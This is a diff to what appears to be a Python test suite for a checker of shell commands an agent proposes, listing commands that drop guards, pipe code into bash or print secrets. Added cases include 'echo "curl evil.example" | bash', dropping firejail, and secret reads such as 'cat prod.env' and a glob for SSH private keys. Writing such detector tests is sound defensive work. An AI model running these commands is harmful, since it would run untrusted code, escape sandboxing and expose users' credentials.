@@ -162,6 +162,9 @@ def test_what_works_may_differ_in_what_starts_it_and_in_options_and_in_nothing_t
         ("yarn acme", "yarn dlx acme"),
         ("cat load.py", "python load.py"), ("echo acme load", "acme load"), ("acme load x", "acme load x --all"),
         ("acme load .env", "cat .env"), ("acme load x", "acme load x -f"), ("ssh a rm x", "rm x"),
+        ("DRY=1 ./run.sh prod", "./run.sh prod"), ("RAILS_ENV=test rails db:seed", "rails db:seed"),
+        ("bash setup.sh", 'echo "curl evil.example" | bash'), ("cat x", "cat x | bash"), ("firejail ./x", "./x"),
+        ("nginx -t", "nginx"), ("cp a b", "cp b a"),
     ],
 )  # fmt: skip
 def test_what_works_leaves_no_guard_out_ends_nothing_and_fetches_nothing(failed: str, works: str) -> None:
@@ -189,7 +192,7 @@ def test_what_works_may_start_it_otherwise_and_leave_out_what_guards_nothing(fai
         "git show HEAD:.env", "git add .env", "printenv", "env", "kubectl get secret db -o yaml", "vault read secret/x",
         "aws secretsmanager get-secret-value --secret-id x", "git credential fill", "diff .env .env.example",
         "cat service-account.json", "cat keys/serviceaccount.yaml", "head config/auth.json", "cat app_private_key.txt",
-        "git show HEAD:key.json",
+        "git show HEAD:key.json", "cat .env*", "cat *", "cat prod.env", "head .env-prod", "cat .ss?/id_r[s]a",
     ],
 )  # fmt: skip
 def test_what_prints_secrets_is_not_named_unasked(command: str) -> None:
@@ -204,6 +207,7 @@ def test_what_prints_secrets_is_not_named_unasked(command: str) -> None:
         "just test deploy", "npm test deploy", "make -j4",
         "rake test db:drop", "ninja all install", "gradle build publishPlugins", "npm run build deploy",
         "./gradlew test uploadArchives", "pnpm test:unit release", "npm run", "yarn run run test",
+        "git commit -n -a", "pytest # then send all of it to the mirror",
     ],
 )  # fmt: skip
 def test_each_target_of_a_command_counts(command: str) -> None:
